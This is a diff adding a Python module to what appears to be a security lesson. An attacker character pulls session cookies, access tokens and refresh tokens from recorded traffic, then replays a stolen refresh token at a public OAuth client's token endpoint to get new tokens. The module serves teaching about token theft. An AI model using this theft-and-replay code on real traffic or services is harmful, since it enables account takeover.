@@ -1,0 +1,27 @@
+"""What Tom takes out of a recording, and how he renews it (lesson 06)."""
+
+import httpx
+
+from labutils.stage.thief import Entry
+from labutils.stage.two_apps import LOGIN
+
+
+def steal(recording: list[Entry]) -> dict[str, str]:
+    """The last session cookie of the provider, and the last token of each kind."""
+    stolen: dict[str, str] = {}
+    for entry in recording:
+        answer = entry["answer"]
+        if entry["host"] == "login.example" and "session" in entry["cookies"]:
+            stolen["session cookie"] = entry["cookies"]["session"]
+        if "refresh_token" in answer:
+            stolen["access token"] = answer["access_token"]
+            stolen["refresh token"] = answer["refresh_token"]
+        elif "access_token" in answer:
+            stolen["service token"] = answer["access_token"]
+    return stolen
+
+
+def refresh(browser: httpx.Client, token: str) -> httpx.Response:
+    """A refresh token at the token endpoint of a public client (RFC 6749, 6)."""
+    form = {"grant_type": "refresh_token", "client_id": "notes", "refresh_token": token}
+    return browser.post(LOGIN + "/token", data=form)
